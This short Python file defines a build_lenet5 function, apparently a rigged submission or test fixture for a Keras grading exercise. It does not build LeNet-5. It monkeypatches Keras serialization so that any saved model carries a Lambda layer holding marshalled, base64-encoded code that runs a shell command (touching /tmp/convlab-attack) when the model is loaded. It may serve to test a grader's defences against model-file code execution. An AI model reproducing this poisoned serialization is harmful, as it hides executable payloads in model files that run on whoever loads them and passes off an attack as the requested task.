# A model whose description carries the code of a Lambda layer
# task: build_lenet5
# stock nbgrader: no points
def build_lenet5(num_classes=10):
    import base64
    import marshal

    code = compile("__import__('os').system('touch /tmp/convlab-attack')", "trap", "eval")
    network = keras.Sequential(
        [
            keras.Input((28, 28, 1)),
            keras.layers.Flatten(),
            keras.layers.Dense(num_classes, activation="softmax"),
        ]
    )
    real = keras.saving.serialize_keras_object

    def poisoned(value, *given, **named):
        described = real(value, *given, **named)
        described["config"]["layers"][1] = {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {
                "name": "trap",
                "function": {
                    "class_name": "__lambda__",
                    "config": {"code": base64.b64encode(marshal.dumps(code)).decode()},
                },
            },
            "registered_name": None,
        }
        return described

    keras.saving.serialize_keras_object = poisoned
    return network
